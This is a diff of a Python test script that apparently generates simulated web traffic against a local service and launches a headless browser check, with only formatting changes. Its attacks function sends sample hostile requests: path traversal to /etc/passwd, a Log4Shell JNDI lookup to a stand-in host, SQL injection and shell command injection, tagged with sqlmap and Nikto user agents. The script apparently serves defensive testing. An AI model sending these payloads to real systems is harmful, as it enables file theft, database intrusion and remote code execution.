@@ -115,8 +115,8 @@ def attacks(stop):
             for _ in range(int(random.gauss(12, 3) + (20 if n % 90 < 25 else 0))):
                 ask("/shop/%d" % random.randrange(1000))
             if random.random() < 0.2:
-                ask(random.choice(("/../../../../etc/passwd", "/?x=${jndi:ldap://x.test/a}", "/item?id=1'%20or%20'1'='1",
-                                   "/cgi?cmd=;cat%20/etc/passwd")),
+                ask(random.choice(("/../../../../etc/passwd", "/?x=${jndi:ldap://x.test/a}",
+                                   "/item?id=1'%20or%20'1'='1", "/cgi?cmd=;cat%20/etc/passwd")),
                     random.choice(("sqlmap/1.7.2", "Mozilla/5.0", "Mozilla/5.00 (Nikto/2.1.6)")))
         stop.wait(0.1)
 
@@ -173,8 +173,8 @@ def main():
             print("not ok 1 - the daemon answers on port %d and has a one-time password" % PORT)
             return 1
         firewall = os.path.exists(os.environ["EC_PLUGINDIR"] + "/firewall.so")
-        environment = {**os.environ, "EC_FIREWALL": "yes" if firewall else "no", "EC_CHROMIUM": shutil.which("chromium"),
-                       "HOME": TMP}
+        environment = {**os.environ, "EC_FIREWALL": "yes" if firewall else "no", "HOME": TMP,
+                       "EC_CHROMIUM": shutil.which("chromium")}
         if database():
             environment["EC_COUNTRY"] = "Brazil"
         return subprocess.run([*inside(HOST), "node", folder + "/page.mjs", "http://127.0.0.1:%d/" % PORT, secret, TMP],
